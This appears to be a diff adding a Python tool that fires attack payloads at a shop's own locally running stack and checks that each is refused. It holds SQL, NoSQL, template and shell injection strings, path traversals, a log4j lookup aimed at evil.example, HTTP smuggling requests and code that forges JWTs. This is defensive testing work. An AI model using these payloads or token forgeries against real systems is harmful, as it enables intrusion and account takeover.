@@ -1,0 +1,410 @@
+"""Try the front door with what attackers send; every answer is a 4xx (or harmless), none a 5xx, nothing is reflected.
+
+No scanner's list but one by hand, of what this shop is made of: a proxy in front of gateways, JSON bodies, keys in
+paths, cursors, tokens signed with ES256, letters with links in them.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import hmac
+import json
+import socket
+import urllib.parse
+from collections.abc import Callable, Iterator, Mapping
+from typing import NamedTuple
+
+import jwt
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+
+from tools import options
+from tools.report import ToolError, step
+from tools.seed import Accounts, log_in
+from tools.shop import Shop
+from tools.stack import Stack
+
+EVIL = "evil.example"
+MARK = "pr0be"
+Judgement = Callable[["Answer"], bool]
+
+
+class Answer(NamedTuple):
+    """What came back; status 0 where the connection was closed without an answer."""
+
+    status: int
+    head: str
+    body: bytes
+
+
+class Probe(NamedTuple):
+    """One request, and which answers are good."""
+
+    name: str
+    method: str
+    target: str
+    headers: Mapping[str, str] = {}
+    body: bytes = b""
+    good: Judgement | None = None
+
+
+def refused(answer: Answer) -> bool:
+    """Tell whether a request was refused: 4xx, or the connection closed."""
+    return answer.status == 0 or 400 <= answer.status < 500
+
+
+def harmless(answer: Answer) -> bool:
+    """Tell whether a request was answered, or refused."""
+    return answer.status < 500
+
+
+def unauthorised(answer: Answer) -> bool:
+    """Tell whether a token was not taken."""
+    return answer.status == 401
+
+
+def main() -> int:
+    """Probe the running stack; return the number of findings."""
+    stack = options.running_stack()
+    findings = count = 0
+    for probe in (*_paths(), *_queries(), *_bodies(), *_headers(), *_methods(), *_tokens(stack)):
+        count += 1
+        findings += _judged(probe, send(stack, probe))
+    for name, request in _broken_http(stack.port).items():
+        count += 1
+        findings += _judged(Probe(name, "", ""), exchange(stack.port, request))
+    findings += _letters(stack)
+    step(f"probe: {count + 1} attempts at {stack.url}")
+    return findings
+
+
+def _judged(probe: Probe, answer: Answer) -> int:
+    wrong = []
+    if not (probe.good or refused)(answer):
+        wrong.append(f"answered {answer.status}")
+    if MARK in answer.head or EVIL in answer.head:
+        wrong.append("reflected in a header")
+    if b"root:x:" in answer.body or b"Traceback" in answer.body or b"botocore" in answer.body:
+        wrong.append("tells of the machine")
+    if "text/html" in answer.head.lower() and MARK.encode() in answer.body:
+        wrong.append("reflected in a page")
+    for finding in wrong:
+        print(f"probe: {probe.name}: {finding}: {probe.method} {probe.target[:80]}")
+    return len(wrong)
+
+
+# --- what is tried ------------------------------------------------------------------------------------------------
+
+_STRINGS = {
+    "sql": "' OR '1'='1' -- ",
+    "sql union": "x' UNION SELECT password FROM customers; DROP TABLE orders;--",
+    "nosql": '{"$gt": ""}',
+    "key expression": "ORDER#a OR attribute_exists(pk)",
+    "another item's key": "CUST#1",
+    "template": "{{7*7}}${7*7}<%= 7*7 %>",
+    "log4j": "${jndi:ldap://evil.example/a}",
+    "markup": f"<script>{MARK}</script>",
+    "shell": "; cat /etc/passwd #`id`$(id)",
+    "null byte": "a\0b",
+    "crlf": f"a\r\nX-{MARK}: 1\r\n\r\n",
+    "newline": "a\nb",
+    "unicode": "Ⓐ﹛İ\u202e\ufeff💥",
+    "fullwidth dots": "．．／．．／etc／passwd",
+    "surrogate": "%ED%A0%80",
+    "overlong": "%C0%AE%C0%AE%C0%AF",
+    "percent": "%25%32%66%zz",
+    "long": "a" * 3000,
+    "negative": "-1",
+    "huge number": "9" * 400,
+    "infinity": "Infinity",
+    "boolean": "true",
+    "list": "[]",
+}
+_KEYED = (
+    "/catalog/products/{}", "/catalog/imports/{}", "/inventory/stock/{}", "/carts/{}", "/orders/{}",
+    "/orders/{}/timeline", "/payments/{}", "/identity/customers/{}", "/journal/subjects/{}",
+)  # fmt: skip
+_ASKED = (
+    "/catalog/products?cursor={}", "/catalog/products?limit={}", "/catalog/products?q={}", "/inventory/stock?skus={}",
+    "/catalog/products?{}=1",
+)  # fmt: skip
+_TRAVERSALS = (
+    "/../../../../etc/passwd", "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/..%5c..%5cetc%5cpasswd",
+    "/....//....//etc/passwd", "/%252e%252e/etc/passwd", "//etc/passwd", "/orders/../identity/me",
+    "/orders/..%2fidentity%2fme", "/orders/%2e%2e/identity/me", "/orders;/../identity/me", "/orders/health%00.json",
+    "/%00", "/index.html%00.png", "/.git/config", "/.env", "/template.yaml", "/_aws/execute-api/", "/%0d%0aX-Pr0be:1",
+    "/orders//health", "/ORDERS/health", "/orders/health/", "/orders%2fhealth", "/%c0%ae%c0%ae/etc/passwd",
+)  # fmt: skip
+
+
+def _quoted(text: str) -> str:
+    return text if text.startswith("%") else urllib.parse.quote(text, safe="")
+
+
+def _paths() -> Iterator[Probe]:
+    for name, text in _STRINGS.items():
+        for path in _KEYED:
+            yield Probe(f"{name} in a path", "GET", path.format(_quoted(text)))
+    for path in _TRAVERSALS:
+        yield Probe("path", "GET", path)
+    for path in (f"//{EVIL}/a", f"/\\{EVIL}/a", f"///{EVIL}", f"/{EVIL}//a"):
+        yield Probe("open redirect", "GET", path, good=_stays)
+
+
+def _stays(answer: Answer) -> bool:
+    places = [
+        line.partition(":")[2].strip()
+        for line in answer.head.splitlines()
+        if line.lower().startswith("location:")
+    ]
+    return answer.status < 500 and all(place.startswith("/") and place[1:2] not in "/\\" for place in places)
+
+
+def _queries() -> Iterator[Probe]:
+    for name, text in _STRINGS.items():
+        for path in _ASKED:
+            yield Probe(f"{name} in a query", "GET", path.format(_quoted(text)), good=harmless)
+    yield Probe("parameter given twice", "GET", "/catalog/products?limit=1&limit=2")
+    yield Probe(
+        "thousands of parameters", "GET", "/catalog/products?" + "&".join(f"a{n}=1" for n in range(500))
+    )
+
+
+def _bodies() -> Iterator[Probe]:
+    log_in_with: dict[str, object] = {
+        "operators": {"email": {"$ne": None}, "password": {"$ne": None}},
+        "lists": {"email": ["a@b.example"], "password": ["x"]},
+        "numbers": {"email": 1, "password": 2},
+        "sql": {"email": "' OR 1=1 --", "password": "' OR 1=1 --"},
+        "more fields": {"email": "a@b.example", "password": "x", "roles": ["admin"]},
+        "prototype": {"email": "a@b.example", "password": "x", "__proto__": {"admin": True}},
+        "null": None,
+        "text": "x",
+    }
+    sent = {f"log-in with {name}": json.dumps(body).encode() for name, body in log_in_with.items()}
+    sent |= {
+        "no JSON": b"<xml/>",
+        "deep JSON": b'{"email":' + b"[" * 30000 + b"]" * 30000 + b"}",
+        "field twice": b'{"email":"a@b.example","email":"c@d.example","password":"x","password":["y"]}',
+        "invalid UTF-8": b'{"email":"\xff\xfe@b.example","password":"x"}',
+        "lone surrogate": b'{"email":"\\ud800@b.example","password":"x"}',
+        "null byte": b'{"email":"a\\u0000@b.example","password":"x","x":1}',
+        "NaN": b'{"email":"a@b.example","password":NaN}',
+        "a number of 5000 digits": b'{"email":' + b"9" * 5000 + b"}",
+        "100 KB": b'{"email":"' + b"a" * 100_000 + b'"}',
+        "7 MB": b" " * (7 * 1024 * 1024),
+        "nothing": b"",
+    }
+    for name, body in sent.items():
+        yield Probe(name, "POST", "/identity/login", _JSON, body)
+    account = {"email": "a@b.example", "password": "a long password", "name": "x", "roles": ["admin"]}
+    yield Probe("registering as admin", "POST", "/identity/register", _JSON, json.dumps(account).encode())
+    for kind in (
+        "text/xml",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data",
+        "application/json;charset=utf-16",
+    ):
+        yield Probe(f"{kind} for JSON", "POST", "/identity/login", {"Content-Type": kind}, b"\xff\xfea=b")
+    yield Probe(
+        "a forged quote", "POST", "/orders", _JSON, b'{"quote":"e30.e30","payment":{"token":"tok_visa"}}'
+    )
+
+
+_JSON = {"Content-Type": "application/json"}
+
+
+def _headers() -> Iterator[Probe]:
+    path = "/orders/ord_none"
+    yield Probe("a header of 20 KB", "GET", path, {"X-Large": "a" * 20_000})
+    yield Probe("300 headers", "GET", path, {f"X-Many-{n}": "a" for n in range(300)})
+    for name in ("X-Forwarded-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded", "X-Host"):
+        yield Probe(f"{name} elsewhere", "GET", path, {name: f"{EVIL}/identity/me"})
+    for name in ("X-Correlation-Id", "Idempotency-Key", "X-Order-Token", "If-Match", "Origin"):
+        yield Probe(f"markup in {name}", "GET", path, {name: f"<script>{MARK}</script>"})
+        yield Probe(f"markup in {name}, static", "GET", "/none.html", {name: f"<script>{MARK}</script>"})
+    for name in ("principalId", "X-Amzn-Principal", "X-User-Id", "X-Roles", "Cookie"):
+        yield Probe(f"being admin by {name}", "GET", "/orders/open", {name: "admin"}, good=unauthorised)
+    yield Probe("Host elsewhere", "GET", "/", {"Host": EVIL}, good=harmless)
+    yield Probe("Host elsewhere, no file", "GET", "/shop", {"Host": EVIL}, good=_stays)
+
+
+def _methods() -> Iterator[Probe]:
+    for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "get", "G<T", "A" * 300):
+        yield Probe(f"method {method[:10]}", method, "/orders/ord_none")
+        yield Probe(f"method {method[:10]}, static", method, "/index.html")
+    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
+        yield Probe(name, "GET", "/identity/me", {name: "DELETE"}, good=unauthorised)
+
+
+def _tokens(stack: Stack) -> Iterator[Probe]:
+    token = log_in(Shop(stack.url), Accounts().customer)
+    if token is None:
+        raise ToolError("the demo customer cannot log in; start afresh: make reset run")
+    for name, forged in forgeries(
+        token, Shop(stack.url).must(200, "GET", "/identity/.well-known/jwks.json")
+    ).items():
+        sent = {"Authorization": f"Bearer {forged}"}
+        yield Probe(f"token: {name}", "GET", "/identity/me", sent, good=unauthorised)
+    for name, line in {
+        "Basic": "Basic YWRtaW46YWRtaW4=",
+        "no scheme": token,
+        "twice": f"Bearer {token}, Bearer {token}",
+    }.items():
+        yield Probe(
+            f"Authorization: {name}", "GET", "/identity/me", {"Authorization": line}, good=unauthorised
+        )
+    yield Probe("token in the query", "GET", f"/identity/me?access_token={token}", good=unauthorised)
+
+
+def forgeries(token: str, jwks: dict[str, list[dict[str, str]]]) -> dict[str, str]:
+    """Return tokens that nobody may take, made of a good one and of the public keys."""
+    head, claims, signature = token.split(".")
+    header = jwt.get_unverified_header(token)
+    said = jwt.decode(token, options={"verify_signature": False})
+    admin = {**said, "roles": ["admin", "staff"], "scope": "shop staff admin"}
+    mine = ec.generate_private_key(ec.SECP256R1())
+    my_jwk = json.loads(jwt.algorithms.ECAlgorithm.to_jwk(mine.public_key()))
+    public = jwt.PyJWK(jwks["keys"][0], algorithm="ES256").key
+    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    own = {name: value for name, value in header.items() if name != "alg"}
+
+    def unsigned(changed: dict[str, object], body: str = "", mark: str = "") -> str:
+        return f"{_b64(json.dumps(changed).encode())}.{body or _b64(json.dumps(admin).encode())}.{mark}"
+
+    def by_me(**changed: object) -> str:
+        return jwt.encode(admin, mine, algorithm="ES256", headers={**own, **changed})
+
+    made = {
+        f"alg {alg}": unsigned({**header, "alg": alg})
+        for alg in ("none", "None", "NONE", "nOnE", "", "es256")
+    }
+    made |= {
+        "alg none with a signature": unsigned({**header, "alg": "none"}, mark=signature),
+        "alg null": unsigned({**header, "alg": None}, mark=signature),
+        "HS256 with the public key": _hmac(header, admin, pem),
+        "HS256 with the JWK set": _hmac(header, admin, json.dumps(jwks).encode()),
+        "HS256 with nothing": _hmac(header, admin, b""),
+        "another's claims": f"{head}.{_b64(json.dumps(admin).encode())}.{signature}",
+        "signature of zeros": f"{head}.{_b64(json.dumps(admin).encode())}.{_b64(bytes(64))}",
+        "no signature": f"{head}.{claims}.",
+        "two parts": f"{head}.{claims}",
+        "four parts": f"{token}.{signature}",
+        "own key, the shop's kid": by_me(),
+        "own key in the header": by_me(jwk=my_jwk),
+        "own key at a jku": by_me(jku=f"https://{EVIL}/jwks.json"),
+        "own key in an x5c": by_me(x5c=["MII"]),
+        "own kid": by_me(kid="mine"),
+        "kid with a path": by_me(kid="../../../../dev/null"),
+        "kid with SQL": by_me(kid="x' UNION SELECT 'secret' -- "),
+        "kid of another type": unsigned({**header, "kid": {"$ne": 1}}, mark=signature),
+        "crit": unsigned({**header, "crit": ["exp"]}, mark=signature),
+        "typ JWT": unsigned({**header, "typ": "JWT"}, claims, signature),
+        "10 KB": unsigned({**header, "pad": "a" * 10_000}, claims, signature),
+        "no JSON": f"{_b64(b'{')}.{claims}.{signature}",
+        "binary": f"{_b64(bytes(range(256)))}.{claims}.{signature}",
+        "padded": f"{head}=.{claims}.{signature}x",
+    }
+    return made
+
+
+def _b64(raw: bytes) -> str:
+    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
+
+
+def _hmac(header: dict[str, object], claims: dict[str, object], secret: bytes) -> str:
+    signed = f"{_b64(json.dumps({**header, 'alg': 'HS256'}).encode())}.{_b64(json.dumps(claims).encode())}"
+    return f"{signed}.{_b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())}"
+
+
+def _broken_http(port: int) -> dict[str, bytes]:
+    """Return requests no client of good will sends; two requests in one would be smuggled past a careless proxy."""
+    host = f"Host: localhost:{port}\r\n"
+    inner = f"GET /identity/me HTTP/1.1\r\n{host}\r\n"
+    start = f"POST /orders HTTP/1.1\r\n{host}Content-Type: application/json\r\n"
+    sent = {
+        "length and chunks (CL.TE)": f"{start}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
+        "chunks twice": f"{start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
+        "chunked, obfuscated": f"{start}Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\n0\r\n",
+        "two lengths": f"{start}Content-Length: 0\r\nContent-Length: 40\r\n\r\n{inner}",
+        "negative length": f"{start}Content-Length: -1\r\n\r\n",
+        "length with a sign": f"{start}Content-Length: +3\r\n\r\n{{}} ",
+        "space before the colon": f"GET /orders/health HTTP/1.1\r\n{host}X-A : b\r\n\r\n",
+        "folded header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\r\n c: d\r\n\r\n",
+        "null in a header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\0c\r\n\r\n",
+        "bare CR in a header": f"GET /orders/none HTTP/1.1\r\n{host}X-A: b\rX-{MARK}: c\r\n\r\n",
+        "no host": "GET /orders/none HTTP/1.1\r\n\r\n",
+        "two hosts": f"GET /orders/none HTTP/1.1\r\n{host}Host: {EVIL}\r\n\r\n",
+        "absolute form, elsewhere": f"GET http://{EVIL}/orders/none HTTP/1.1\r\n{host}\r\n",
+        "HTTP/0.9": "GET /orders/none\r\n\r\n",
+        "HTTP/9.9": f"GET /orders/none HTTP/9.9\r\n{host}\r\n",
+        "no HTTP at all": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n",
+    }
+    return {name: text.encode("latin-1") for name, text in sent.items()}
+
+
+def _letters(stack: Stack) -> int:
+    """Ask for a letter under another host's name: its link must lead to the shop."""
+    body = json.dumps({"email": Accounts().customer.email}).encode()
+    sent = {**_JSON, "Host": EVIL, "X-Forwarded-Host": EVIL, "Origin": f"https://{EVIL}"}
+    send(stack, Probe("letter", "POST", "/identity/password/forgot", sent, body))
+    if EVIL in json.dumps(stack.emulator.get("/_ministack/ses/messages")):
+        print("probe: a letter links to the host of the request")
+        return 1
+    return 0
+
+
+# --- sending ------------------------------------------------------------------------------------------------------
+
+
+def send(stack: Stack, probe: Probe) -> Answer:
+    """Send a probe as it is, without a client that would mend it."""
+    headers = {"Host": f"localhost:{stack.port}", "Connection": "close", **probe.headers}
+    if probe.body or probe.method in ("POST", "PUT"):
+        headers["Content-Length"] = str(len(probe.body))
+    lines = [
+        f"{probe.method} {probe.target} HTTP/1.1",
+        *(f"{name}: {value}" for name, value in headers.items()),
+    ]
+    return exchange(stack.port, "\r\n".join(lines).encode("utf-8") + b"\r\n\r\n" + probe.body)
+
+
+def exchange(port: int, request: bytes) -> Answer:
+    """Send bytes and return the one answer; a second one on the same connection is a finding, status 599."""
+    received = b""
+    try:
+        with socket.create_connection(("127.0.0.1", port), timeout=40) as connection:
+            _send_all(connection, request)
+            connection.settimeout(40)
+            while True:
+                some = connection.recv(65536)
+                received += some
+                if not some or _complete(received):
+                    break
+    except OSError:
+        pass
+    head, _, body = received.partition(b"\r\n\r\n")
+    text = head.decode("latin-1")
+    status = int(text.split(" ")[1]) if text.startswith("HTTP/") else 0
+    if b"\r\nHTTP/1.1 " in body or body.startswith(b"HTTP/1.1 "):
+        status = 599
+    return Answer(status, text, body)
+
+
+def _send_all(connection: socket.socket, request: bytes) -> None:
+    try:
+        connection.sendall(request)
+    except OSError:  # it was refused before all of it was sent; the answer may be there all the same
+        return
+
+
+def _complete(received: bytes) -> bool:
+    """Tell whether one whole answer is there, for connections that stay open."""
+    head, found, body = received.partition(b"\r\n\r\n")
+    if not found:
+        return False
+    lengths = [
+        line.partition(b":")[2] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")
+    ]
+    return bool(lengths) and len(body) >= int(lengths[0])
